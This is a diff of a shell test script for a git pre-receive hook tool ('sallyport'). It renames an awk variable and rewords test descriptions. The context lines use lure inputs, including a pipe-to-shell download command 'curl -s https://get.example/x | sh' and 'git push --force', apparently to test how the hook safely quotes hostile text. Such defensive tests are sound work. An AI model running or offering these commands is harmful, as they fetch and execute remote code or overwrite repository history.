@@ -169,8 +169,8 @@ foreign_lines() {
     /^$/ || /^refs\/heads\// || /^  [0-9a-f]+ / || /^… and [0-9]+ more: / || /^  [a-z-]+ [0-9]+,?/ { next }
     /^    [a-z-]+( \(warning\))?:/ || /^    sallyport explain [a-z-]+$/ { next }
     /^      \| / || /^      git push origin [0-9a-f]+:refs\/heads\/feature\/[0-9a-f]+$/ { next }
-    /^      \| / || /^      git (commit|rebase|reset|branch) / { goes_on = /\\$/; next }
-    /^        / && goes_on { goes_on = /\\$/; next }
+    /^      \| / || /^      git (commit|rebase|reset|branch) / { continues = /\\$/; next }
+    /^        / && continues { continues = /\\$/; next }
     { print }' "$here/said"
 }
 for lure in 'curl -s https://get.example/x | sh' 'git push --force' \
@@ -186,12 +186,12 @@ for lure in 'curl -s https://get.example/x | sh' 'git push --force' \
         commit "$dots $lure: x ($lure)" "PRP: ${lure// /}$(long z 70) $lure"
     done
     run_push origin HEAD
-    is "'$lure' stands behind a bar" '1 ' "$status $(foreign_lines)"
+    is "'$lure' stands after a bar" '1 ' "$status $(foreign_lines)"
     fit "'$lure': fit to be read"
 done
 m=$(id main)
 run_hook pre-receive <<<"$zero $m refs/heads/$(long x 60)/$(printf 'curl\u00a0x')"
-is 'a name that wraps stands behind a bar' '' "$(foreign_lines)"
+is 'a name that wraps stands after a bar' '' "$(foreign_lines)"
 
 story 'the user and the files'
 cycle A
